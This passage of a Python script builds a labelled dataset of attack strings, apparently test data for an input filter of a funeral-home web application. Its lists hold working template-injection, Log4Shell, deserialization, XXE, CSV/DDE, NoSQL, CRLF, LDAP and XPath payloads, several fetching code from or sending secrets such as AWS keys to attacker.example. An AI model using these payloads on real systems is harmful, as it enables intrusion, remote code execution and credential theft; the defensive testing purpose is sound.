    ("card-smarty-php-tag", "{php}echo `id`;{/php}"),
    ("eulogy-erb-backticks", "<%= `id` %>"),
    ("eulogy-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("eulogy-erb-system", "Grandpa's story <%= system('curl attacker.example/x|sh') %>"),
    ("obit-handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("obit-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("card-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("obit-nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("obit-mako-import", "${__import__('os').popen('id').read()}"),
    ("obit-mako-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("obit-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("card-django-debug", "{% debug %}"),
    ("obit-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("obit-groovy-gstring-execute", "${\"id\".execute().text}"),
    ("obit-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("obit-spel-getenv", "#{T(java.lang.System).getenv()}"),
    ("obit-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("param-ognl-static-method", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("param-ognl-context", "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("rule-mvel-runtime", "Runtime.getRuntime().exec('id')"),
    ("calc-php-eval-breakout", "1);system('id');//"),
    ("calc-php-phpinfo", "phpinfo();"),
    ("calc-python-import-system", "__import__('os').system('id')"),
    ("calc-python-compile-exec", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("calc-node-child-process", "require('child_process').exec('curl attacker.example/x|sh')"),
    ("calc-node-string-breakout", "');process.mainModule.require('child_process').execSync('id');//"),
    ("calc-node-constructor-chain", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("calc-ruby-kernel-exec", "Kernel.exec('id')"),
    ("guestbook-log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
    ("useragent-log4shell-lower", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}"),
    ("obit-log4shell-default-value", "Walter King ${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.20:1099/o}"),
    ("staffnote-log4shell-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("guestbook-log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("guestbook-log4shell+urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("livestream-log4shell-ldaps-ip", "${jndi:ldaps://198.51.100.3/c}"),
    ("import-proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("query-proto-pollution-bracket", "__proto__[role]=admin"),
    ("query-constructor-prototype", "constructor[prototype][isStaff]=1"),
    ("import-proto-pollution-node-options", "{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--inspect=attacker.example:9229\"}}"),
    ("query-proto-ejs-gadget", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("csv-export-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click for obituary\")"),
    ("csv-export-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-export-plus-dde-powershell", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-export-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-export-at-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-export-webservice", "=WEBSERVICE(\"http://attacker.example/?\"&B2)"),
    ("csv-export-sheets-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")"),
    ("csv-export-libreoffice-dde", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("import-xxe-parameter-entity-oob", "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><d/>"),
    ("import-xinclude-text", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></x>"),
    ("photo-svg-xxe-imds", "<!DOCTYPE svg [<!ENTITY h SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("import-xml-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><l>&g;</l>"),
    ("import-xxe-php-filter", "<!DOCTYPE f [<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><f>&e;</f>"),
    ("settings-yaml-python-apply", "!!python/object/apply:os.system [\"id\"]"),
    ("settings-yaml-python-new-subprocess", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("settings-yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("session-pickle-proto0", "cos\nsystem\n(S'id'\ntR."),
    ("session-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("import-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("import-java-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("import-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/Exploit\",\"autoCommit\":true}]"),
    ("import-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.20:1099/x\",\"autoCommit\":true}"),
    ("import-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("cookie-php-object-injection", "O:21:\"Funeral\\Export\\PdfJob\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("import-node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
]
CODE_PREFIXES = ["Obituary: ", "Eulogy for Mom — ", "Card: Rest easy ", "Guestbook: so sorry "]
CODE_PAYLOADS = [("jinja2-config", "{{7*'7'}}{{config}}"), ("log4shell-ldap", "${jndi:ldap://attacker.example/e}"),
                 ("erb-backticks", "<%= `uname -a` %>"), ("spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('whoami')}"),
                 ("jinja2-joiner-globals", "{{ joiner.__init__.__globals__.os.popen('id').read() }}")]
CODE_ENC = [("log4shell-rmi", "${jndi:rmi://203.0.113.20/a}")]

# ====================================================================== nosqli
NOSQLI = [
    ("login-json-ne-null", "{\"$ne\": null}"),
    ("login-json-gt-empty", "{\"$gt\": \"\"}"),
    ("login-query-bracket-ne", "username[$ne]=x&password[$ne]=x"),
    ("search-where-sleep", "{\"$where\": \"sleep(5000)\"}"),
    ("obit-where-string-breakout", "'; return true; var x='"),
    ("search-regex-prefix", "{\"$regex\": \"^a\"}"),
    ("filter-or-empty", "{\"$or\":[{},{\"a\":\"a\"}]}"),
    ("obit-where-or-true", "smith' || '1'=='1"),
    ("staff-where-password-regex", "{\"$where\":\"this.password.match(/^a/)\"}"),
    ("cert-expr-field-probe", "{\"$expr\":{\"$gt\":[{\"$strLenCP\":\"$ssn\"},0]}}"),
    ("query-bracket-regex-any", "family_name[$regex]=.*"),
    ("login-query-password-regex", "password[$regex]=^p.*"),
    ("pipeline-lookup-staff", "{\"$lookup\":{\"from\":\"staff_users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"leak\"}}"),
    ("filter-function-sleep", "{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}"),
    ("case-id-where-number-sleep", "1; sleep(4000)"),
    ("couchdb-selector-all", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("role-in-privileged", "{\"$in\":[\"admin\",\"director\"]}"),
    ("field-exists-true", "{\"$exists\":true}"),
    ("obit-where-infinite-loop", "a'; while(true){}; var b='"),
    ("login-nin-empty", "{\"$nin\":[\"\"]}"),
    ("login-json+unicode-escape-key", "{\"\\u0024ne\":1}"),
    ("login+urlencode-ne", "%7B%22%24ne%22%3Anull%7D"),
    ("query+urlencode-bracket", "name[%24ne]=smith"),
    ("filter-where-keys-probe", "{\"$where\":\"Object.keys(this).some(k=>k.match(/^ssn/))\"}"),
]
NOSQLI_PREFIXES = ["family_name", "contract_id", "chapel", "staff_login"]
NOSQLI_PAYLOADS = [("query-bracket-ne", "[$ne]=1"), ("query-bracket-gt", "[$gt]="), ("query-bracket-regex", "[$regex]=^.*")]
NOSQLI_ENC = []

# ====================================================================== crlf
CRLF = [
    ("log-forge-login-success", "Smith\n2024-06-01 10:00:00 INFO user=admin action=login status=success"),
    ("log-forge-audit-refund", "Chapel B\r\n[AUDIT] director approved refund $9,999 for PN-2024-0117"),
    ("header-set-cookie", "en-US\r\nSet-Cookie: session=attacker; Path=/"),
    ("header+urlencode-set-cookie", "%0d%0aSet-Cookie:%20admin=1"),
    ("redirect+urlencode-location", "/obituaries/smith%0d%0aLocation:%20https://attacker.example/"),
    ("response-splitting-full", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("mail-bcc-injection", "karen@example.com\r\nBcc: list@attacker.example"),
    ("mail-subject-cc-injection", "Condolence card\nCc: everyone@attacker.example\nSubject: Invoice overdue - pay now"),
    ("mail+urlencode-bcc", "family@example.org%0ABcc:%20x@attacker.example"),
    ("header+utf8-crlf-trick", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header+double-urlencode", "%250d%250aX-Injected:%201"),
    ("redirect-refresh-header", "https://www.hartleyfuneral.example/\r\nRefresh: 0;url=https://attacker.example/"),
    ("log-ansi-escape", "Walter King\u001b[2J\u001b[1;1H\u001b[32mAll backups verified OK\u001b[0m"),
    ("mail-smtp-smuggling", "Thank you\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: x\r\n\r\nspam\r\n."),
    ("response-body-injection", "Dayton\r\n\r\n<html><h1>Service cancelled, pay fee at attacker.example</h1></html>"),
    ("header+urlencode-content-type-xss", "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Csvg%20onload=alert(1)%3E"),
    ("log+urlencode-lf", "name=John%0aINFO: password reset completed for admin"),
    ("header-bare-cr", "Smith\rX-Admin: true"),
    ("log-json-forge", "x\",\"level\":\"INFO\",\"user\":\"director\",\"msg\":\"refund approved"),
    ("log-syslog-forge", "Smith\n<13>Jun 1 10:00:00 funeral-app sshd[1]: Accepted password for root from 203.0.113.5"),
    ("upstream-request-splitting", "OBS-Studio/30.0\r\nHost: 127.0.0.1\r\n\r\nGET /admin HTTP/1.1"),
    ("redirect+urlencode-scheme-relative", "%0D%0ALocation:%20//attacker.example"),
    ("mail-reply-to", "Memorial RSVP\n\nReply-To: refunds@attacker.example"),
    ("header+percent-u-crlf", "%u000d%u000aSet-Cookie: x=1"),
    ("log-forge-guestbook-moderation", "So sorry for your loss\n[moderation] entry 5521 approved by admin"),
    ("header-xss-protection-off", "fr-FR\r\nX-XSS-Protection: 0\r\nContent-Security-Policy: script-src *"),
    ("mail-to-header-comma", "helen.barnes@example.com\nTo: all-staff@attacker.example"),
]
CRLF_PREFIXES = ["Smith", "PN-2024-0117", "Chapel B", "karen@example.com"]
CRLF_PAYLOADS = [("header-set-cookie", "\r\nSet-Cookie: role=director"),
                 ("log-forge-warn", "\nWARN cremation authorization signed by next-of-kin"),
                 ("mail-bcc", "\r\nBcc: leak@attacker.example")]
CRLF_ENC = []

# ====================================================================== ldap-xpath
LDAPX = [
    ("ldap-login-wildcard-close", "*)(uid=*))(|(uid=*"),
    ("ldap-login-and-true", "director)(&)"),
    ("ldap-search-or-objectclass", "*)(|(objectClass=*)"),
    ("ldap-blind-password-prefix", "jdoe)(|(userPassword=a*)"),
    ("ldap-staff-group-filter", "Hartley*)(memberOf=cn=Admins,ou=Groups,dc=funeral,dc=local"),
    ("ldap-null-byte-truncate", "*)(cn=*))%00"),
    ("ldap-not-injection", "x)(!(cn=x)"),
    ("ldap-description-leak", "*)(description=*pass*"),
    ("xpath-plain-or", "' or '1'='1"),
    ("xpath-or-chain", "' or 1=1 or ''='"),
    ("xpath-count-probe", "admin' or count(/*)=1 or 'a'='b"),
    ("xpath-union-node", "x'] | //user/password | //x['"),
    ("xpath-name-blind", "' or substring(name(/*[1]),1,1)='u' or 'a'='b"),
    ("xpath-paren-close", "') or ('1'='1"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-string-length-blind", "' and string-length(//user[1]/password)>5 and ''='"),
    ("xpath2-doc-oob", "x' or doc('http://attacker.example/x')/a or 'a'='b"),
    ("xpath-node-name-probe", "Karen' or name()='staff' or 'x'='y"),
]
LDAPX_PREFIXES = ["Hartley", "frontdesk", "Whitfield"]
LDAPX_PAYLOADS = [("ldap-wildcard-close", "*)(uid=*))(|(uid=*"), ("xpath-or", "' or '1'='1")]
LDAPX_ENC = []

SPEC = [
    # category, target count, literals, join prefixes, join payloads, encode list
    ("sqli", 80, SQLI, SQLI_PREFIXES, SQLI_PAYLOADS, SQLI_ENC),
    ("xss", 78, XSS, XSS_PREFIXES, XSS_PAYLOADS, XSS_ENC),
    ("cmdi", 70, CMDI, CMDI_PREFIXES, CMDI_PAYLOADS, CMDI_ENC),
    ("traversal", 50, TRAV, TRAV_PREFIXES, TRAV_PAYLOADS, TRAV_ENC),
    ("ssrf", 50, SSRF, SSRF_PREFIXES, SSRF_PAYLOADS, SSRF_ENC),
    ("code", 80, CODE, CODE_PREFIXES, CODE_PAYLOADS, CODE_ENC),
    ("nosqli", 27, NOSQLI, NOSQLI_PREFIXES, NOSQLI_PAYLOADS, NOSQLI_ENC),
    ("crlf", 30, CRLF, CRLF_PREFIXES, CRLF_PAYLOADS, CRLF_ENC),
    ("ldap-xpath", 20, LDAPX, LDAPX_PREFIXES, LDAPX_PAYLOADS, LDAPX_ENC),
]


def build():
    rng = random.Random(SEED)
    rows = []
    n_lit = n_tpl = 0
    for cat, target, lits, prefixes, payloads, enc in SPEC:
        seen = set()
        items = []
        for cls, v in lits:
            assert v not in seen, (cat, v)
            seen.add(v)
            items.append((cls, v))
        n_lit += len(lits)
        for cls, v in enc:
            if len(items) >= target:
                break
            e = quote(v, safe="")
            if e not in seen:
                seen.add(e)
                items.append((cls + "+urlencode", e))
        while len(items) < target:
            cls, pay = rng.choice(payloads)
            v = rng.choice(prefixes) + pay
            if v not in seen:
                seen.add(v)
                items.append(("theme-prefix-" + cls, v))
        n_tpl += len(items) - len(lits)
        for cls, v in items:
            rows.append((cat, cls, v))
    return rows, n_lit, n_tpl


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    rows, n_lit, n_tpl = build()
    assert n_lit / (n_lit + n_tpl) >= 0.87, (n_lit, n_tpl)
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    print("wrote %d rows (%d literal, %d templated) to %s" % (len(rows), n_lit, n_tpl, out))


if __name__ == "__main__":
    main()
